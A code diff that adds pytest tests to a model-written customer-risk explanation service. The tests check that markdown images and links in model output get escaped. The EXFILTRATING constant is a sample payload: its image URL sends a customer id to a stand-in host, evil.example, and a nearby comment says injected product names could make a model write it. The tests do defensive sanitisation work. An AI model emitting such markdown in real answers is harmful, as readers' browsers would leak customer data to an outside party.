@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import logging
+import re
 import time
 
 import pytest
@@ -11,9 +12,17 @@ import pytest
 from agent.cohort import analyze_cohort
 from agent.explain import Explanation, ModelExplainer, TemplateExplainer
 from agent.explain.prompt import DATA_CLOSE, DATA_OPEN, system_prompt
+from agent.handler import handle
 from rules import Analysis, analyze_request
 from tests.agent.scripted_model import ScriptedModel
 from tests.conftest import AS_OF, seed_example
+
+# What a customer's product name could make a model write: an image the reader's browser fetches with the
+# customer's id in its URL, and a link to anywhere.
+EXFILTRATING = "## C-1001\n**At risk** ![x](https://evil.example/p.png?d=C-1) [Renew](https://evil.example/login)"
+DISARMED = ("## C-1001\n**At risk** !\\[x\\](https:\u2060//evil.example/p.png?d=C-1) "
+            "\\[Renew\\](https:\u2060//evil.example/login)")
+LIVE_LINK_OR_IMAGE = re.compile(r"(?<!\\)!?\[[^\]]*(?<!\\)\]\(")
 
 
 def seed_analysis() -> Analysis:
@@ -106,3 +115,22 @@ def test_each_explanation_gets_a_fresh_model() -> None:
 
     assert texts == ["answer 0", "answer 1"]
     assert [len(m.calls) for m in models] == [1, 1]
+
+
+def test_a_models_links_and_images_reach_the_answer_disarmed() -> None:
+    payload = {**seed_example("example-request"), "asOf": "2026-02-12"}
+
+    reply = handle(payload, explainer=ModelExplainer(lambda: ScriptedModel([EXFILTRATING]), timeout_s=5))
+
+    assert reply.body["explanationSource"] == "model"
+    [block] = reply.body["explanation"]["content"]
+    assert block["text"] == DISARMED
+    assert not LIVE_LINK_OR_IMAGE.search(block["text"])
+
+
+def test_a_models_cohort_explanation_is_disarmed_too() -> None:
+    summary = analyze_cohort([seed_example("example-request")["customerData"]["customer"]], AS_OF).summary
+
+    explanation = ModelExplainer(lambda: ScriptedModel([EXFILTRATING]), timeout_s=5).explain_cohort(summary, "en")
+
+    assert explanation == Explanation(DISARMED, "model")
